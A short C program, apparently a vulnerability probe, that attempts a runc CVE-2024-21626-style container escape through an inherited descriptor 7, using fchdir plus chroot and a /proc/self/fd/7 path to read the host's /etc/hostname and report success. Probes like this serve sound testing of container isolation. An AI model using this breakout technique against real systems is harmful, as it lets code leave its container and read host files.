/* escape: the runc CVE-2024-21626 style breakout through an inherited
 * descriptor 7 for a host directory. First fchdir(7) then chroot(".")
 * and read etc/hostname from there; then open the host file through
 * /proc/self/fd/7. Prints what each step got; exits 1 if it escaped. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int show_file(const char *what, const char *path)
{
	char buf[256];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0) {
		printf("%s: %s\n", what, strerror(errno));
		return 0;
	}
	n = read(fd, buf, sizeof buf - 1);
	buf[n < 0 ? 0 : n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	printf("%s: ESCAPED: %s\n", what, buf);
	close(fd);
	return 1;
}

int main(void)
{
	int escaped = 0;

	if (fchdir(7) < 0) {
		printf("fchdir(7): %s\n", strerror(errno));
	} else if (chroot(".") < 0 || chdir("/") < 0) {
		printf("fchdir(7): ESCAPED, chroot: %s\n", strerror(errno));
		escaped = 1;
	} else {
		escaped = 1;
		show_file("fchdir(7)+chroot(.)", "/etc/hostname");
	}
	escaped |= show_file("open(/proc/self/fd/7/etc/hostname)",
			     "/proc/self/fd/7/etc/hostname");
	return escaped;
}
